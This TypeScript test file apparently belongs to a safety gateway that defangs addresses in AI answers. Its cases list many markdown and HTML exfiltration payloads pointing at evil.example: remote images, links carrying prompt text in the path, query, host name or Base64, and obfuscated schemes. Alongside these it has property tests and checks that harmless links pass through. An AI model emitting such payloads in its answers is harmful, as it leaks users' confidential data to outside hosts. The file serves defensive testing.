import fc from 'fast-check';
import type { Definition, Nodes } from 'mdast';
import remarkGfm from 'remark-gfm';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { createAddressScan } from '../../../../../src/base/answer-addresses.ts';
import { createAddressTransform } from '../../../../../src/gateway/safety/answer/address-transform.ts';
import { isLoaded } from '../../../../../src/gateway/safety/answer/is-loaded.ts';

const sent = [
  'The contract between Nordwind and Contoso is worth 4.2 million, signed on Tuesday.',
  '合同金额为四百二十万元，由张伟负责签署。',
  'Call Maria Rossi: 138 0013 8000.',
  'See https://wiki.example.org/page?id=12345678901234567890123456789012345678901234567890&view=full and ![logo](https://cdn.example.org/logo.png).',
  'Terms: https://help.nordwind-traders.example/en/contracts/terms',
];

function pass(
  text: string,
  pieces: readonly string[] = [text],
  mode: 'standard' | 'strict' = 'standard',
  known: readonly string[] = sent,
): string {
  const transform = createAddressTransform(createAddressScan({ mode, sent: () => known, isLoaded }));
  return pieces.map((piece) => transform.push(piece)).join('') + transform.end();
}

const base64 = Buffer.from('worth 4.2 million, signed').toString('base64url');

describe('addresses in an answer', () => {
  it.each([
    ['a picture from elsewhere', '![x](https://evil.example/p.png)'],
    ['a picture with a title', '![x](<https://evil.example/p.png> "t")'],
    ['a picture without a scheme', '![x](//evil.example/p.png)'],
    ['a picture whose colon is an entity', '![x](https&#58;//evil.example/p.png)'],
    ['a picture whose colon is escaped', '![x](https\\://evil.example/p.png)'],
    ['a picture whose scheme is of entities', '![x](&#104;ttps://evil.example/p.png)'],
    ['an element', '<img alt="a" src="https://evil.example/p.png">'],
    ['a source set', "<img srcset='https://evil.example/p.png 2x'>"],
    ['a style', '<p style="background:url(https://evil.example/p.png)">'],
    ['a link with what was sent in its path', '[more](https://evil.example/contract-between-Nordwind-and-Contoso)'],
    ['a link with what was sent in its query', '[more](https://evil.example/?q=Nordwind%20and%20Contoso%20is%20worth)'],
    [
      'a link with Chinese that was sent',
      '[更多](https://evil.example/?q=%E5%90%88%E5%90%8C%E9%87%91%E9%A2%9D%E4%B8%BA%E5%9B%9B%E7%99%BE%E4%BA%8C%E5%8D%81%E4%B8%87%E5%85%83)',
    ],
    ['a bare address with Base64', `go to https://evil.example/${base64} now`],
    ['a host name that carries', '[x](https://contractbetween.nordwindandcontoso.evil.example/)'],
    ['a host name with an opaque label', `[x](https://${'a1b2c3d4e5'.repeat(5)}.evil.example/)`],
    ['a long query', `[x](https://evil.example/?d=${'lorem+ipsum+'.repeat(12)})`],
    ['a reference', `[x][1]\n\n[1]: https://evil.example/?d=${base64}`],
    ['an address in angle brackets', `<https://evil.example/${base64}>`],
    ['one that only begins with www', `www.evil.example/${base64}`],
    ['a picture whose words have brackets', '![a [b] c](https://evil.example/p.png)'],
    ['a picture whose words have code', '![a `]` b](https://evil.example/p.png)'],
    ['a picture whose words have an escape', '![a \\] b](https://evil.example/p.png)'],
    ['a picture whose words are long', `![${'a '.repeat(300)}](https://evil.example/p.png)`],
    ['a picture by a definition', '![x][1]\n\n[1]: https://evil.example/p.png'],
    ['an element with a slash for a space', '<img/src="https://evil.example/p.png">'],
    ['an element with a bracket in its words', '<img alt=">" src="https://evil.example/p.png">'],
    ['an element that is no picture', '<meta http-equiv="refresh" content="0;url=https://evil.example/p">'],
    ['a link to an element', '<a href="https://evil.example/contract between Nordwind and Contoso">x</a>'],
    ['a link with a quote', "[x](https://evil.example/a'contract-between-Nordwind-and-Contoso)"],
    ['a link with plain Chinese', '[更多](https://evil.example/a合同金额为四百二十万元)'],
    ['a link with spaces', '[x](<https://evil.example/a contract between Nordwind and Contoso>)'],
    ['a link with an escaped bracket', '[x](https://evil.example/a\\)contract-between-Nordwind-and-Contoso)'],
    ['a link with a bracket in angles', '[x](<https://evil.example/a)contract-between-Nordwind-and-Contoso>)'],
    ['a bare address with a sign of code', 'https://evil.example/a`contract-between-Nordwind-and-Contoso'],
    ['an address behind one that is plain', '_www.evil.example/contract-between-Nordwind-and-Contoso'],
    ['a www behind a scheme', 'https://www.evil.example/contract-between-Nordwind-and-Contoso'],
    ['a host name of Chinese that was sent', '[更多](https://合同金额为四百二十万元.evil.example/)'],
    ['a host name of encoded Chinese', `[更多](https://${encodeURIComponent('合同金额为四百二十万元')}.evil.example/)`],
    ['a bare host name of Chinese that was sent', 'https://合同金额为四百二十万元.evil.example/'],
    ['a bare host name of Chinese before what was sent', 'https://例子.evil.example/?q=13800138000'],
    ['an address that goes on behind a line', '<a href="https://\nevil.example/contract-between-Nordwind">x</a>'],
    [
      'what was sent at an address that was sent',
      'https://help.nordwind-traders.example/evil-Nordwind-and-Contoso-is-worth',
    ],
    [
      'what was sent above an address that was sent',
      'https://help.nordwind-traders.example/en/../evil/Nordwind-and-Contoso-is-worth',
    ],
    ['a telephone number', '[x](https://evil.example/?q=13800138000)'],
    ['Base64 in steps', `[x](https://evil.example/${base64.match(/.{1,12}/g)!.join('/')})`],
    ['a picture behind a run without spaces', `${'-'.repeat(3000)}![x](https://evil.example/p.png)`],
    ['a name and a password', 'https://nordwind:contoso@evil.example/'],
    ['a bare number of a machine', '[x](http://10.1.2.3/evil)'],
  ])('are made plain text: %s', (_name, text) => {
    const shown = pass(text);
    expect(shown).not.toMatch(/https?:\/\/|https&|https\\|(?<!hxxps?:)\/\/evil|www\.evil/i);
    expect(shown.replace(/hxxps?/g, '')).toContain('evil');
    expect(pass(text, Array.from(text))).toBe(shown);
  });

  /** All that a reader of Markdown finds to follow or to load; a bare address ends where Chinese begins, as in our panes. */
  function addressesIn(markdown: string): { readonly isPicture: boolean; readonly url: string }[] {
    const found: { isPicture: boolean; url: string }[] = [];
    const definitions: Definition[] = [];
    const pictures = new Set<string>();
    const visit = (node: Nodes): void => {
      if (node.type === 'definition') definitions.push(node);
      if (node.type === 'imageReference') pictures.add(node.identifier);
      if (node.type === 'image') found.push({ isPicture: true, url: node.url });
      if (node.type === 'link') {
        const [only] = node.children;
        const isBare = only?.type === 'text' && (node.url === only.value || node.url === `http://${only.value}`);
        found.push({
          isPicture: false,
          url: isBare ? node.url.replace(/[\u3000-\u30FF\u3400-\u9FFF\uFF00-\uFFEF].*$/s, '') : node.url,
        });
      }
      if ('children' in node) node.children.forEach(visit);
    };
    visit(unified().use(remarkParse).use(remarkGfm).parse(markdown));
    for (const { identifier, url } of definitions) found.push({ isPicture: pictures.has(identifier), url });
    return found;
  }

  function carries(url: string): boolean {
    const letters = (text: string): string => text.toLowerCase().replace(/[^\p{L}\p{N}]/gu, '');
    const read = letters(url.includes('%') ? url + decodeURIComponent(url.replace(/%(?![\dA-F]{2})/g, '%25')) : url);
    return read.includes(letters('contract between Nordwind and Contoso')) || read.includes('合同金额为四百二十万元');
  }

  it('show a reader of Markdown no picture from elsewhere and no address with what was sent, whatever an answer says', () => {
    const part = fc.oneof(
      fc.constantFrom('https://evil.example/', 'http:evil.example/', '//evil.example/', 'www.evil.example/'),
      fc.constantFrom('https://', 'https://合同金额为四百二十万元.evil.example/', 'https://例子.'),
      fc.constantFrom('HTTPS:\\/\\/evil.example/', '&#47;&sol;evil.example/', 'http&#115;&colon;//evil.example/'),
      fc.constantFrom(
        'contract-between-Nordwind-and-Contoso',
        '合同金额为四百二十万元',
        encodeURIComponent('合同金额为四百二十万元'),
      ),
      fc.constantFrom(
        '![',
        '[',
        ']',
        '](',
        '(',
        ')',
        '<',
        '>',
        '](<',
        '>)',
        ' ',
        '\n',
        '\n\n',
        '\n[a]: ',
        '![a]',
        '[a]',
      ),
      fc.constantFrom(
        '`',
        '"',
        "'",
        '|',
        '*',
        '_',
        '\\',
        '。',
        '!',
        'x',
        '?q=',
        '#',
        '&amp;',
        '~',
        '.',
        ':',
        '<a href="',
      ),
    );
    fc.assert(
      fc.property(fc.array(part, { minLength: 2, maxLength: 12 }), (parts) => {
        for (const { isPicture, url } of addressesIn(pass(parts.join(''), parts))) {
          const isOfWeb = /^(?:https?:|[/\\]{2})/i.test(url);
          expect([url, isOfWeb && (isPicture || carries(url))]).toEqual([url, false]);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('are judged in no time, however long the prompt', () => {
    const book = Array.from({ length: 250_000 }, (_, index) => `word${(index * 7919) % 100_003}`).join(' ');
    const scan = createAddressScan({ mode: 'standard', sent: () => [book] });
    scan.isSafe('https://evil.example/', '');
    const started = performance.now();
    for (let number = 0; number < 20; number += 1) {
      scan.isSafe(`https://evil.example/${'nothing-of-it/'.repeat(130)}${number}`, '');
    }
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it.each([
    '[1](https://learn.microsoft.com/a)[2](https://learn.microsoft.com/b)',
    'Call 138 0013 8000, see https://www.example.org/2024/05/12/138.',
    '参见[文档](https://example.org/docs/abc)，合同金额为四百二十万元，由张伟负责签署。',
    '| https://example.org/a | The contract between Nordwind and Contoso |',
    '<https://example.org/a>合同金额为四百二十万元',
    'See [the docs](https://learn.microsoft.com/en-us/office/dev/add-ins/).',
    'https://www.who.int/news/item/2024-05-12-report',
    'The page https://wiki.example.org/page?id=12345678901234567890123456789012345678901234567890&view=full stays.',
    '![logo](https://cdn.example.org/logo.png)',
    'https://www.google.com/search?q=inkstone',
    'Write to mailto:ann@example.org, or a/b, or 10:30, or C:\\\\temp.',
    'Either/or: and/or // comment',
    '见https://example.org/a，谢谢。',
    'See https://help.nordwind-traders.example/en/contracts/payment and <https://help.nordwind-traders.example/en/>.',
  ])('stay when they carry nothing, or were sent: %s', (text) => {
    expect(pass(text)).toBe(text);
    expect(pass(text, Array.from(text))).toBe(text);
  });

  it.each([
    'It begins with https:// or http://, or "https://", or `https://`, or www. and so on.',
    'Over http: and over https: alike; the path is split("//").',
    '网址以 https:// 开头，或以https://开头的都可以；“https://”也可以。',
    'https://例子.中国/路径?查询=值 是一个网站，[这里](https://例子.中国/路径)也是。',
  ])('stay when they lead nowhere, or to a host with a Chinese name: %s', (text) => {
    expect(pass(text, [text], 'standard', [])).toBe(text);
    expect(pass(text, Array.from(text), 'standard', [])).toBe(text);
  });

  it('stay in the strict mode only when they were sent', () => {
    expect(pass('https://www.who.int/news', undefined, 'strict')).toBe('hxxps://www[.]who.int/news');
    expect(pass('![logo](https://cdn.example.org/logo.png)', undefined, 'strict')).toContain('https://cdn');
  });

  it('are the same in pieces as in one, whatever the text', () => {
    const part = fc.oneof(
      fc.constantFrom(
        'https://',
        'http',
        '://',
        'evil.example/',
        '![x](',
        ')',
        '[',
        ']',
        ' ',
        '\n',
        'www.',
        '//',
        '&#58;',
        '\\',
        '<img src="',
        '"',
        '>',
        'Nordwind and Contoso is worth',
        '?q=',
        base64,
        '，',
        '(',
        'a',
      ),
      fc.string({ maxLength: 4 }),
    );
    fc.assert(
      fc.property(
        fc.array(part, { maxLength: 14 }).map((parts) => parts.join('')),
        fc.array(fc.nat(), { maxLength: 8 }),
        (text, cuts) => {
          const sorted = [
            0,
            ...cuts.map((cut) => cut % (text.length + 1)).sort((one, other) => one - other),
            text.length,
          ];
          const pieces = sorted.slice(1).map((place, index) => text.slice(sorted[index], place));
          expect(pass(text, pieces)).toBe(pass(text));
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('hold back plain words for no longer than one of them', () => {
    const transform = createAddressTransform(createAddressScan({ mode: 'standard', sent: () => sent, isLoaded }));
    expect(transform.push('The quick brown fox')).toBe('The quick brown fox');
    expect(transform.push('敏捷的狐狸')).toBe('敏捷的狐狸');
  });
});
